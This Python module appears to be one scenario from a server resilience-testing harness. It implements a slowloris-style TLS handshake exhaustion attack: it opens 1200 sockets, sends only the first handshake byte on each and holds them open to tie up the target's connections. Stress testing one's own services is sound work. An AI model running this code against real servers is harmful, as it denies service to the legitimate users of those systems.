"""As many sockets as a worker has handshakes send the first byte of one, and come again when they are closed."""

import time

import wire

TLS = True
SOCKETS = 1200


def attack(victim, hello=b"\x16"):
    opened = []

    def keep(_):
        held = []
        try:
            for _ in range(SOCKETS // 12):
                held.append(victim.connect(handshake=False))
                held[-1].sendall(hello)
                opened.append(None)
                time.sleep(0.015)
            time.sleep(8)
        finally:
            for sock in held:
                sock.close()

    wire.crowd(12 * victim.scale, keep)
    while len(opened) < SOCKETS:
        time.sleep(0.1)
    victim.begun()
